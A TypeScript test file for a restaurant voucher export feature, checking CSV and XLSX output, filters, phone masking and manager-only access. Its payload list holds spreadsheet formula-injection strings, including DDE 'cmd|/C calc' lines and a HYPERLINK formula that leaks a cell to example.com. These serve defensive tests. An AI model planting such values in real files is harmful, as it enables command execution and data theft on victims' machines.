import { inflateRawSync, crc32 } from 'node:zlib';
import fc from 'fast-check';
import { afterEach, expect, test } from 'vitest';
import type { CommandInput } from '@qiantai/shared/commands/index.ts';
import { csvLine } from './export-csv.ts';
import type { Cell } from './export-sheet.ts';
import { xlsxFormat } from './export-xlsx.ts';
import { maskedPhone } from './export.ts';
import { openShop, type TestShop } from './shop.testkit.ts';
import { asManager } from './sync.testkit.ts';

const shops: TestShop[] = [];
afterEach(async () => {
  for (const shop of shops.splice(0)) await shop.close();
});

/** A shop that has seen `count` vouchers, every third of them a membership card. */
async function shopWith(count: number, more: Record<string, unknown> = {}): Promise<TestShop> {
  const shop = await openShop();
  shops.push(shop);
  shop.journal.transact('station', (tx) => {
    for (let nth = 1; nth <= count; nth += 1) {
      const voucher = tx.nextId('voucher');
      const voucherType = nth % 3 === 0 ? 1 : 4;
      tx.append('voucher.seen', `voucher:${voucher}`, {
        voucher,
        platform: 'meituan',
        code: String(100_000_000_000 + nth),
        orderNo: `49${nth}`,
        deal: '7001',
        title: '双人套餐',
        originalFen: 19_800,
        paidFen: 12_800,
        phone: '13800138000',
        usable: 1,
        status: 1,
        expiresOn: '2026-12-31',
        becomes: { voucherType, product: `双人套餐 ${nth}`, dishes: [] },
        ...more,
      });
    }
  });
  return shop;
}

/** Reads RFC 4180 back, strictly. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
  while (field.lastIndex < text.length) {
    const match = field.exec(text);
    if (match === null) throw new Error('not RFC 4180');
    row.push(match[1] === undefined ? (match[2] ?? '') : match[1].replaceAll('""', '"'));
    if (match[3] === '\r\n') {
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

/** Reads a ZIP back by its central directory and checks every sum. */
function unzip(file: Uint8Array): Map<string, string> {
  const bytes = Buffer.from(file);
  const end = bytes.lastIndexOf(Buffer.from('PK\x05\x06', 'latin1'));
  let at = bytes.readUInt32LE(end + 16);
  const entries = new Map<string, string>();
  for (let left = bytes.readUInt16LE(end + 10); left > 0; left -= 1) {
    expect(bytes.readUInt32LE(at)).toBe(0x02014b50);
    const [crc, packed, size] = [16, 20, 24].map((field) => bytes.readUInt32LE(at + field)) as [
      number,
      number,
      number,
    ];
    const nameLength = bytes.readUInt16LE(at + 28);
    const local = bytes.readUInt32LE(at + 42);
    const name = bytes.toString('utf8', at + 46, at + 46 + nameLength);
    expect(bytes.readUInt32LE(local)).toBe(0x04034b50);
    expect(bytes.subarray(local + 6, local + 30)).toEqual(bytes.subarray(at + 8, at + 32));
    const start = local + 30 + nameLength;
    const text = inflateRawSync(bytes.subarray(start, start + packed));
    expect([crc32(text), text.length]).toEqual([crc, size]);
    entries.set(name, text.toString('utf8'));
    at += 46 + nameLength;
  }
  return entries;
}

const plain = (text: string): string =>
  text
    .replaceAll('&#13;', '\r')
    .replaceAll('&quot;', '"')
    .replaceAll('&gt;', '>')
    .replaceAll('&lt;', '<')
    .replaceAll('&amp;', '&')
    .replaceAll('_x005F_', '_');

/** Rows of a workbook as a spreadsheet shows them. */
function sheetRows(file: Uint8Array): string[][] {
  const sheet = unzip(file).get('xl/worksheets/sheet1.xml') ?? '';
  return [...sheet.matchAll(/<row>(.*?)<\/row>/gs)].map(([, row = '']) =>
    [...row.matchAll(/<c(?: [^>]*)?(?:\/>|>(?:<v>(.*?)<\/v>|<is><t[^>]*>(.*?)<\/t><\/is>)<\/c>)/gs)].map(
      ([, number, text]) => number ?? plain(text ?? ''),
    ),
  );
}

async function exported(shop: TestShop, input: CommandInput<'voucher.export'>): Promise<string[][]> {
  const file = await shop.ask('voucher.export', input, asManager);
  if (input.format === 'xlsx') return sheetRows(file.body);
  const text = Buffer.from(file.body).toString('utf8');
  expect(text.startsWith('\uFEFF')).toBe(true);
  return parseCsv(text.slice(1));
}

const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  "-2+3+cmd|' /C calc'!D2",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '=HYPERLINK("http://example.com?x="&A1,"click")',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '\0=1+1',
  '";=1+1',
  '%0A=1+1',
];

test.each(payloads)('in a CSV cell %j is a text, not a formula', (payload) => {
  const [[cell = '']] = parseCsv(csvLine([payload])) as [[string]];
  expect(cell).not.toMatch(/^[\s\0]*[=+\-@＝＋－＠]|^[\t\r\n]/);
  expect(cell.endsWith(payload.replaceAll('\0', ''))).toBe(true);
});

test('whatever stands in a cell, a CSV gives it back, with at most a mark before it', () => {
  const text = fc.string({ unit: 'binary', maxLength: 40 }).map((raw) => raw.toWellFormed());
  fc.assert(
    fc.property(fc.array(text, { minLength: 1, maxLength: 6 }), (cells) => {
      const [back] = parseCsv(Buffer.from(csvLine(cells)).toString('utf8'));
      const given = cells.map((cell) => cell.replaceAll('\0', ''));
      expect(back?.map((cell, index) => (cell === given[index] ? cell : cell.replace(/^'/, '')))).toEqual(
        given,
      );
    }),
    { numRuns: 500 },
  );
});

test('whatever stands in a cell, a workbook holds it as text and stays whole', async () => {
  const unit = fc.oneof(
    fc.constantFrom('_x0041_', '&amp;', '<', ']]>', '\r', '\n', '\t', '餐', '😀', "'", '"', '\u0007'),
    fc.string({ minLength: 1, maxLength: 3 }),
  );
  const text = fc.array(unit, { maxLength: 8 }).map((parts) => parts.join(''));
  await fc.assert(
    fc.asyncProperty(fc.array(text, { minLength: 1, maxLength: 5 }), async (cells) => {
      const sheet = xlsxFormat.open('券', ['a']);
      await sheet.add([cells, [...payloads] as Cell[]]);
      const [, row, bad] = sheetRows(await sheet.finish());
      const speakable = (cell: string): string =>
        cell.replace(/(?![\t\n\r])\p{Cc}|[\uFFFE\uFFFF]|\p{Cs}/gu, '');
      expect(row).toEqual(cells.map(speakable));
      expect(bad).toEqual(payloads.map(speakable));
    }),
    { numRuns: 60 },
  );
});

test.each(['csv', 'xlsx'] as const)(
  'the whole list comes as %s, each voucher once, the newest first',
  async (format) => {
    const shop = await shopWith(1_205);
    const [header, ...rows] = await exported(shop, { format });
    expect(header?.slice(0, 2)).toEqual(['券码', '平台']);
    expect(rows.map(([code]) => code)).toEqual(
      Array.from({ length: 1_205 }, (_, index) => String(100_000_000_000 + 1_205 - index)),
    );
    expect(rows[0]).toEqual([
      '100000001205',
      '美团',
      '491205',
      '套餐',
      '双人套餐 1205',
      '198.00',
      '128.00',
      '138****8000',
      '未核销',
      '2026-12-31',
      '',
      '',
      '1205',
    ]);
  },
);

test('a file takes the same filters as the list', async () => {
  const shop = await shopWith(300);
  const filters = [
    { voucher_type: 1 },
    { keyword: '49300' },
    { status: 2 },
    { start_date: '2026-11-22' },
    {},
  ];
  for (const filter of filters) {
    const { total } = await shop.ask('voucher.list', filter);
    expect(await exported(shop, { ...filter, format: 'csv' })).toHaveLength(total + 1);
  }
});

test('a product that is named like a formula cannot run, and a phone is never whole', async () => {
  const shop = await shopWith(1, { becomes: { voucherType: 4, product: '=1+1', dishes: [] } });
  const [, row = []] = await exported(shop, { format: 'csv' });
  expect(row[4]).toBe("'=1+1");
  expect(row[7]).toBe('138****8000');
  expect(['13800138000', '+8613800138000', '138****8000', ''].map(maskedPhone)).toEqual([
    '138****8000',
    '+861****8000',
    '138****8000',
    '',
  ]);
});

test('only managers take the list out of the shop', async () => {
  const shop = await shopWith(1);
  for (const role of ['clerk', 'kitchen'] as const)
    expect(await shop.answer('voucher.export', {}, { role })).toMatchObject({ error: 'not-allowed' });
});
